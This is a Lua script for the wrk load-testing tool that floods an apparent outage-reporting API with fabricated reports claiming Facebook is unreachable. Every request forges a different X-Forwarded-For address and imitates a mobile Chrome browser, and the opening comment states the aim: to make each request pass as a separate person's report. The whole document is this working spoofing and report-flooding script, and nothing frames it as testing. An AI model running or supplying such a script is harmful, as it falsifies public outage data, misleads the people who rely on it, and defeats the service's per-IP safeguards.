-- One report a request, each of another person: a trusted proxy says from which address.
local thread = 0
function setup(t)
  t:set("id", thread)
  thread = thread + 1
end

local headers = {
  ["content-type"] = "application/json",
  ["user-agent"] = "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Mobile Safari/537.36",
}
local body = '{"service":"facebook","components":["website"],"problem":"unreachable"}'
local n = 0

function request()
  n = n + 1
  headers["x-forwarded-for"] =
    string.format("%d.%d.%d.%d", 11 + id, math.floor(n / 65536) % 256, math.floor(n / 256) % 256, n % 256)
  return wrk.format("POST", "/api/v1/reports", headers, body)
end
